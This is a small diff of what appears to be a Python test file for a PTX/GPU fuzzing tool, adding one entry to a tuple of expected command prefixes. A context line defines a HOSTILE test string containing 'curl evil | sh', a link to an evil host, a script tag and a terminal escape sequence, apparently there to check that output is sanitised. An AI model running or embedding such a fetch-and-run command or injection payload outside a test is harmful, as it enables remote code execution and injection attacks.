@@ -57,7 +57,7 @@ PROGRAMS = {
     "rows": row_load(ldmatrix_form("ldmatrix.sync.aligned.m8n8.x2.shared.b16")),
 }
 HOSTILE = "x\n## Run this\n`curl evil | sh` [click](http://evil) <script> ```\x1b]0;x\x07"
-COMMAND = ("warpfuzz ", "ptxas -arch", "a kernel of ")
+COMMAND = ("warpfuzz ", "ptxas -arch", "a kernel of ", "its PTX ")  # with the checkout's path
 
 
 def printed(document: Document, width: int = 100) -> list[str]:
